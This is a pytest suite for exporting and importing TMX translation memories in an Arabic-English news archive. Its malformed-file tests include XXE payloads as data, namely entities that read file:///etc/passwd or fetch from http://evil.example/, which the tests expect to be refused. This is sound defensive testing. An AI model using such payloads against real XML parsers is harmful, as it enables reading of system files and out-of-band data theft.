"""The memory as TMX: out and in again, and in from other tools, whatever is in their files."""

import io
import re
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, datetime
from itertools import chain
from pathlib import Path
from xml.etree import ElementTree

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from archive import tables
from archive.article import Translation
from archive.ingest import read_article
from archive.store import Archive
from archive.translation import corrections
from archive.translation.memory import Draft, TranslationMemory
from archive.translation.packages import BUNDLED, open_folder
from archive.translation.tmx import unit
from archive.translation.tmx.reading import Flawed, TmxFile, UnreadableMemory
from archive.translation.tmx.taking import Taken, take
from archive.translation.tmx.unit import Unit
from archive.translation.tmx.writing import Which, write

FILES = Path(__file__).with_name("tmx")
ENGINE = open_folder(BUNDLED / "ar_en").label
TITLE, SENTENCE = "عنوان الخبر", "قالت وزارة الدفاع إن القوات عادت."
ARTICLE = f"{TITLE}\n\n{SENTENCE}\n\nجملة لا ترد إلا هنا.\n"


@pytest.fixture
def empty(tmp_path: Path) -> Iterator[Archive]:
    with Archive.in_file(tmp_path / "empty.db") as archive:
        yield archive


@pytest.fixture
def archive(tmp_path: Path) -> Iterator[Archive]:
    """An archive of one article."""
    with Archive.in_file(tmp_path / "archive.db") as archive:
        archive.add(*read_article(ARTICLE.encode(), "a.txt"))
        yield archive


def exported(archive: Archive, which: Which = Which.SHOWN) -> str:
    """Return an export without the date in its header."""
    file = io.BytesIO()
    write(archive, file, which)
    text = file.getvalue().decode()
    return re.sub(r'(<header[^>]*) creationdate="[^"]*"', r"\1", text)


def tmx(*units: str, header: str = "", before: str = "") -> bytes:
    """Write a file as other tools do."""
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{before}<tmx version="1.4"><header {header}/>'
        f"<body>{''.join(units)}</body></tmx>"
    ).encode()


def pair(arabic: str, english: str, more: str = "", inner: str = "") -> str:
    return (
        f'<tu {more}>{inner}<tuv xml:lang="ar"><seg>{arabic}</seg></tuv>'
        f'<tuv xml:lang="en"><seg>{english}</seg></tuv></tu>'
    )


def taken_from(archive: Archive, content: bytes, **options: bool) -> Taken:
    return take(archive, io.BytesIO(content), "agency", **options)


def shown(archive: Archive) -> dict[str, Translation | None]:
    (found,) = archive.changed_since(0)
    return {p.sentence.text: p.translation for p in found.pairs}


def count(archive: Archive, table: sa.Table) -> int:
    with archive.engine.connect() as connection:
        return connection.execute(sa.select(sa.func.count()).select_from(table)).scalar_one()


def with_seeds(archive: Archive, seeds: Path) -> Archive:
    for path in sorted(seeds.iterdir()):
        archive.add(*read_article(path.read_bytes(), path.name))
    return archive


@pytest.fixture
def full(tmp_path: Path, seeds: Path) -> Iterator[Archive]:
    """The seeds, translated by an engine, some of it corrected."""
    with Archive.in_file(tmp_path / "full.db") as archive:
        with_seeds(archive, seeds)
        memory = TranslationMemory(archive, open_folder(BUNDLED / "ar_en"))
        memory.make_current()
        for window in memory.windows():
            texts = {one.digest: f"<b>draft</b> & {one.digest[:6]}" for one in window}
            memory.store([(digest, Draft(text, -0.123456789)) for digest, text in texts.items()])
        first = archive.latest(1)[0].article.id
        corrections.correct(archive, first, 1, 'A "title" & <more>', "Nour <n>")
        corrections.correct(archive, first, 3, "Third.", "عمر")
        corrections.correct(archive, first, 3, "Third, again.", "Adam")
        corrections.withdraw(archive, first, 3)
        yield archive


@pytest.mark.parametrize("which", list(Which))
def test_what_goes_out_comes_in_and_goes_out_the_same(
    full: Archive, empty: Archive, seeds: Path, which: Which
) -> None:
    with_seeds(empty, seeds)
    out = exported(full, which)
    taken = taken_from(empty, out.encode())
    assert (taken.failed, taken.known, taken.older, taken.waiting) == (0, 0, 0, 0)
    assert taken.new + taken.corrected == taken.units == out.count("<tu ")
    assert taken.corrected == 2
    assert exported(empty, which) == out
    again = taken_from(empty, out.encode())
    assert (again.known, again.units) == (taken.units, taken.units)
    assert exported(empty, which) == out
    if which is not Which.CORRECTIONS:
        assert [p.translation.text for a in empty.changed_since(0) for p in a.pairs] == [
            p.translation.text for a in full.changed_since(0) for p in a.pairs
        ]


def test_an_export_is_as_the_specification_says(full: Archive) -> None:
    root = ElementTree.fromstring(exported(full, Which.ALL))
    assert (root.tag, root.attrib) == ("tmx", {"version": "1.4"})
    header, body = root
    assert header.attrib.keys() == {
        *("creationtool", "creationtoolversion", "segtype", "o-tmf"),
        *("adminlang", "srclang", "datatype"),
    }
    assert (header.get("srclang"), header.get("segtype")) == ("ar", "sentence")
    language = "{http://www.w3.org/XML/1998/namespace}lang"
    sentences = {p.sentence.text for a in full.changed_since(0) for p in a.pairs}
    seen = []
    for one in body:
        assert one.tag == "tu"
        assert [child.tag for child in one if child.tag != "prop"] == ["tuv", "tuv"]
        assert [side.get(language) for side in one.iter("tuv")] == ["ar", "en"]
        assert all(
            re.fullmatch(r"\d{8}T\d{6}Z", one.get(n)) for n in ("creationdate", "changedate")
        )
        seen.append(one.find("tuv/seg").text)
        properties = {p.get("type"): p.text for p in one.iter("prop")}
        if unit.PERSON in properties:
            assert one.get("creationid") in ("Nour <n>", "عمر")
        else:
            assert one.get("creationid") == ENGINE
            assert f"{properties[unit.ENGINE]} {properties[unit.VERSION]}" == ENGINE
            assert len(properties[unit.MODEL]) == 64
            assert properties[unit.SCORE] == "-0.123456789"
    assert set(seen) == sentences
    assert len(seen) == len(sentences) + 2
    assert len(re.findall("<tu ", exported(full, Which.SHOWN))) == len(sentences)
    assert exported(full, Which.CORRECTIONS).count("<tu ") == 2


def test_an_empty_memory_is_a_file_too(empty: Archive) -> None:
    out = exported(empty)
    assert taken_from(empty, out.encode()) == Taken()
    assert len(ElementTree.fromstring(out)[1]) == 0


def test_what_xml_can_not_hold_is_left_out(archive: Archive) -> None:
    (found,) = archive.latest(1)
    corrections.correct(archive, found.article.id, 1, "Title \uffff", "Nour")
    corrections.correct(archive, found.article.id, 2, "Fine \U0001f54a\u202e.", "Nour")
    file = io.BytesIO()
    written = write(archive, file, Which.CORRECTIONS)
    assert (written.units, written.left_out) == (1, 1)
    assert "Fine \U0001f54a\u202e." in file.getvalue().decode()


# Other tools


@pytest.mark.parametrize("name", ["omegat.tmx", "trados.tmx", "memoq.tmx"])
def test_files_of_other_tools(archive: Archive, name: str) -> None:
    content = (FILES / name).read_bytes()
    taken = taken_from(archive, content)
    assert (taken.new, taken.failed) == (2, 0)
    found = shown(archive)
    assert found[TITLE].text == "News headline"
    assert found[SENTENCE].text == "The Defence Ministry said that the forces were back."
    assert found[TITLE].engine.startswith("tmx-agency ")
    assert found[TITLE].author is None


def test_a_file_in_utf_16(archive: Archive) -> None:
    text = tmx(pair(TITLE, "Headline")).decode().replace('"utf-8"', '"utf-16"')
    for codec in ("utf-16", "utf-16-le", "utf-16-be"):
        mark = b"" if codec == "utf-16" else "\ufeff".encode(codec)
        (one,) = TmxFile(io.BytesIO(mark + text.encode(codec)))
        assert one.arabic == TITLE
    (one,) = TmxFile(io.BytesIO(b"\xef\xbb\xbf" + tmx(pair(TITLE, "Headline"))))
    assert one.english == "Headline"
    arabic = text.replace('"utf-16"', '"windows-1256"').encode("windows-1256")
    (one,) = TmxFile(io.BytesIO(arabic))
    assert one.arabic == TITLE


@pytest.mark.parametrize(
    ("english", "text"),
    [
        ('<bpt i="1">&lt;b&gt;</bpt>Bold<ept i="1">&lt;/b&gt;</ept> words', "Bold words"),
        ('One<ph x="1">&lt;br/&gt;</ph> two', "One two"),
        ('<ph>&lt;img alt="<sub>a picture</sub>"&gt;</ph>Text', "Text"),
        ('<it pos="begin">x</it>One <hi type="1">two <hi>three</hi></hi>', "One two three"),
        ("<ut>{\\f1 </ut>Old", "Old"),
        ("<bpt i='1'>x<sub>y<bpt i='2'>z</bpt></sub></bpt>Nested", "Nested"),
        ("  One\n      two\t\n  ", "One two"),
        ("One &amp; two &lt;b&gt; &#x41;", "One & two <b> A"),
        ("<![CDATA[<b>]]> kept", "<b> kept"),
        ("a<!-- no --> b<?no?>", "a b"),
    ],
)
def test_codes_in_a_text_are_dropped(english: str, text: str) -> None:
    (one,) = TmxFile(io.BytesIO(tmx(pair(TITLE, english))))
    assert one == Unit(TITLE, text, None, None)


@pytest.mark.parametrize(
    ("ar", "en"),
    [("ar", "en"), ("AR", "EN"), ("ar-SA", "en-US"), ("ar_EG", "en_GB"), ("ara", "eng")],
)
@pytest.mark.parametrize("attribute", ["xml:lang", "lang"])
def test_languages_are_known_by_many_names(ar: str, en: str, attribute: str) -> None:
    sides = f'<tuv {attribute}="fr"><seg>Titre</seg></tuv>'
    sides += f'<tuv {attribute}="{en}"><seg>Headline</seg></tuv>'
    sides += f'<tuv {attribute}="{ar}"><seg>{TITLE}</seg></tuv>'
    sides += '<tuv xml:lang="en-GB"><seg>Another</seg></tuv>'
    (one,) = TmxFile(io.BytesIO(tmx(f"<tu>{sides}</tu>", header='srclang="*all*"')))
    assert (one.arabic, one.english) == (TITLE, "Headline")


def test_persons_units_are_corrections_where_that_is_asked_for(archive: Archive) -> None:
    content = tmx(
        pair(TITLE, "By Layla", 'changeid="Layla" creationid="Adam" changedate="20240102T030405Z"'),
        pair(SENTENCE, "By no one"),
        pair("جملة لا ترد إلا هنا.", "a\u0085 b"),
        header='creationtool="OmegaT" creationtoolversion="6.0"',
    )
    taken = taken_from(archive, content, as_corrections=True)
    assert (taken.corrected, taken.new, taken.failed) == (2, 0, 1)
    assert taken.problems == [
        "unit 3: the correction has a control character in it: leave out character 2"
    ]
    found = shown(archive)
    assert (found[TITLE].author, found[TITLE].made_on.isoformat()) == ("Layla", "2024-01-02")
    assert found[SENTENCE].author == "unknown"
    assert taken_from(archive, content, as_corrections=True).known == 2
    (article,) = archive.latest(1)
    corrections.withdraw(archive, article.article.id, 1)
    assert taken_from(archive, content, as_corrections=True).corrected == 0
    assert shown(archive)[TITLE] is None


def test_of_two_texts_the_newer_stays(archive: Archive) -> None:
    def unit_of(english: str, year: int) -> bytes:
        return tmx(pair(TITLE, english, f'creationdate="{year}0102T030405Z"'))

    assert taken_from(archive, unit_of("Of 2020", 2020)).new == 1
    with archive.engine.begin() as connection:
        row = connection.execute(sa.select(tables.translation)).one()
        flag = {"digest": row.digest, "engine_id": row.engine_id, "flag": "length", "detail": "x"}
        connection.execute(tables.quality_flag.insert().values(flag))
    assert taken_from(archive, unit_of("Of 2010", 2010)).older == 1
    assert shown(archive)[TITLE].text == "Of 2020"
    assert count(archive, tables.quality_flag) == 1
    revision = archive.revision
    assert taken_from(archive, unit_of("Of 2020", 2022)).known == 1
    assert archive.revision == revision
    assert taken_from(archive, unit_of("Of 2022", 2022)).replaced == 1
    assert shown(archive)[TITLE].text == "Of 2022"
    assert count(archive, tables.quality_flag) == 0
    assert archive.revision > revision
    both = tmx(pair(TITLE, "A", 'creationdate="20250101T000000Z"'), pair(TITLE, "B"))
    assert taken_from(archive, both).replaced == 2
    assert shown(archive)[TITLE].text == "B"


def test_an_older_correction_goes_before_no_newer_one(archive: Archive) -> None:
    (found,) = archive.latest(1)
    corrections.correct(archive, found.article.id, 1, "Of today", "Nour")
    old = tmx(pair(TITLE, "Of 2020", 'creationid="Adam" creationdate="20200102T030405Z"'))
    assert taken_from(archive, old, as_corrections=True).older == 1
    assert shown(archive)[TITLE].text == "Of today"


def test_a_sentence_that_comes_later_finds_its_translation(empty: Archive) -> None:
    content = tmx(pair(TITLE, "Headline"), pair(SENTENCE, "Corrected", inner=person()))
    taken = taken_from(empty, content)
    assert (taken.new, taken.corrected, taken.waiting) == (1, 1, 2)
    empty.add(*read_article(ARTICLE.encode(), "a.txt"))
    found = shown(empty)
    assert found[TITLE].text == "Headline"
    assert (found[SENTENCE].text, found[SENTENCE].author) == ("Corrected", "unknown")


def person() -> str:
    return f'<prop type="{unit.PERSON}">yes</prop>'


def test_an_engine_that_is_known_takes_its_own_back(archive: Archive) -> None:
    package = open_folder(BUNDLED / "ar_en")
    TranslationMemory(archive, package).make_current()
    properties = {
        **{unit.ENGINE: "another name", unit.MODEL: package.model_hash, unit.SCORE: "nan"},
        **{unit.VERSION: "9", unit.DECODING: "beam 4"},
    }
    inner = "".join(f'<prop type="{n}">{v}</prop>' for n, v in properties.items())
    taken_from(archive, tmx(pair(TITLE, "Headline", inner=inner)))
    assert shown(archive)[TITLE].engine == package.label
    with archive.engine.connect() as connection:
        row = connection.execute(sa.select(tables.translation)).one()
    assert (row.score, row.decoding) == (0.0, "beam 4")


def test_names_in_a_file_control_nothing(archive: Archive) -> None:
    header = 'creationtool="Evil&#10;&#x202e;&#x1F54A;" creationtoolversion="1&#9;2"'
    take(archive, io.BytesIO(tmx(pair(TITLE, "x"), header=header)), "a\u202e\nb" + "x" * 500)
    engine = shown(archive)[TITLE].engine
    assert engine.startswith("tmx-a b")
    assert engine.endswith("Evil \U0001f54a 1 2")
    assert "\n" not in engine
    assert len(engine) < 220


# What is wrong with files


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "line 1: it is no well-formed XML (no element found)"),
        (b"no xml", "it is no well-formed XML"),
        (b"PK\3\4" + b"\0" * 100, "it is no well-formed XML"),
        (b"<html><body/></html>", "it is no TMX file: it begins with <html>"),
        (tmx(pair(TITLE, "a"))[:-20], "it is no well-formed XML"),
        (b'<?xml version="1.0" encoding="no-such"?><tmx/>', "line 1:"),
        (b'<?xml version="1.0" encoding="utf-8"?><tmx>\xff</tmx>', "not well-formed"),
        (tmx(before='<!DOCTYPE tmx [<!ENTITY a "b">]>'), "it declares the entity “a”"),
        (
            tmx(before='<!DOCTYPE tmx [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
            "it declares the entity “a”",
        ),
        (
            tmx(before='<!DOCTYPE tmx [<!ENTITY % a SYSTEM "http://evil.example/">%a;]>'),
            "it declares the entity “a”",
        ),
        (tmx(pair(TITLE, "&nbsp;")), "undefined entity"),
        (b"<tmx><!--" + b"x" * 3_000_000, "a tag of more than 1048576 bytes"),
        (b"<tmx x='" + b"x" * 3_000_000, "a tag of more than 1048576 bytes"),
        (b"<tmx>" + b"<a>" * 1000, "no element found"),
    ],
    ids=lambda value: "" if isinstance(value, bytes) else value,
)
def test_files_that_can_not_be_read_are_named(archive: Archive, content: bytes, words: str) -> None:
    with pytest.raises(UnreadableMemory, match=re.escape(words)):
        list(TmxFile(io.BytesIO(content)))
    taken = taken_from(archive, content)
    assert taken.failed == 1
    assert words in taken.problems[0]


def test_what_comes_before_an_error_is_taken(archive: Archive) -> None:
    taken = taken_from(archive, tmx(pair(TITLE, "Headline"))[:-10])
    assert (taken.new, taken.failed) == (1, 1)
    assert "what comes before it was taken" in taken.problems[0]
    assert shown(archive)[TITLE].text == "Headline"


def test_a_doctype_is_passed_over_and_nothing_is_fetched(archive: Archive) -> None:
    before = '<!DOCTYPE tmx SYSTEM "http://127.0.0.1:1/tmx14.dtd">\n'
    content = tmx(pair(TITLE, "a &nbsp; b"), pair(SENTENCE, "Fine"), before=before)
    taken = taken_from(archive, content)
    assert (taken.new, taken.failed) == (1, 1)
    assert taken.problems == ["unit 1, line 3: what &nbsp; stands for is not known"]


def test_units_that_can_not_be_taken_are_named_and_the_others_go_on() -> None:
    content = tmx(
        "\n<tu/>",
        '\n<tu><tuv xml:lang="ar"><seg>x</seg></tuv></tu>',
        "\n" + pair("", "x"),
        "\n" + pair(TITLE, " "),
        "\n" + pair(TITLE, "x" * 200_001),
        "\n<tu><tuv><seg>x</seg></tuv><note>n</note><prop>p</prop></tu>",
        "\n" + pair(TITLE, "Fine"),
    )
    *flawed, fine = TmxFile(io.BytesIO(content))
    assert flawed == [
        Flawed(1, 3, "it has no Arabic"),
        Flawed(2, 4, "it has no English"),
        Flawed(3, 5, "it has no Arabic"),
        Flawed(4, 6, "it has no English"),
        Flawed(5, 7, "a side of it has more than 200000 characters"),
        Flawed(6, 8, "it has no Arabic"),
    ]
    assert fine == Unit(TITLE, "Fine", None, None)


def test_many_problems_are_counted_and_some_named(archive: Archive) -> None:
    taken = taken_from(archive, tmx(*["<tu/>"] * 1000, pair(TITLE, "Headline")))
    assert (taken.units, taken.failed, taken.new) == (1001, 1000, 1)
    assert len(taken.problems) == 20


def test_memory_does_not_grow_with_a_file(archive: Archive) -> None:
    class Units(io.RawIOBase):
        """A file of units with these numbers, made as it is read."""

        def __init__(self, units: range) -> None:
            head, foot = tmx("|").split(b"|")
            made = (pair(f"جملة {n} {'كلمة ' * 40}", f"Sentence {n}") for n in units)
            self._parts = chain([head], (one.encode() for one in made), [foot])

        def read(self, _size: int = -1) -> bytes:
            return next(self._parts, b"")

    def peak(units: range) -> int:
        tracemalloc.start()
        assert take(archive, Units(units), "many").failed == 0
        used = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return used

    peak(range(600))  # what is imported and cached once
    # Keeping the units would cost three times as much; what the collector of rubbish has not
    # come to yet costs up to half as much again.
    assert peak(range(2_000, 8_000)) < 2 * peak(range(600, 2_000))


@settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(
        st.sampled_from(
            [
                *("<tu>", "</tu>", "<tuv xml:lang='ar'>", "<tuv xml:lang='en'>", "</tuv>"),
                *(
                    "<seg>",
                    "</seg>",
                    "<ph>",
                    "</ph>",
                    "<hi>",
                    "</hi>",
                    "<prop type='x'>",
                    "</prop>",
                ),
                *(
                    "text",
                    "نص",
                    "&amp;",
                    "&x;",
                    "<!DOCTYPE x>",
                    "\0",
                    "<header/>",
                    "<tmx>",
                    "</tmx>",
                ),
            ]
        ),
        max_size=30,
    )
)
def test_whatever_is_in_a_file_it_is_read_or_refused(archive: Archive, parts: list[str]) -> None:
    for content in ("".join(parts), f"<tmx>{''.join(parts)}</tmx>"):
        taken = taken_from(archive, content.encode())
        assert taken.units >= taken.new + taken.known


def test_times_are_written_as_the_specification_says() -> None:
    moment = datetime(2026, 1, 2, 3, 4, 5, 678, tzinfo=UTC)
    assert unit.written(moment) == "20260102T030405Z"
    assert unit.read("20260102T030405Z") == moment.replace(microsecond=0)
    for text in ("", "2026-01-02", "99999999T999999Z", "20260102T030405"):
        assert unit.read(text) is None
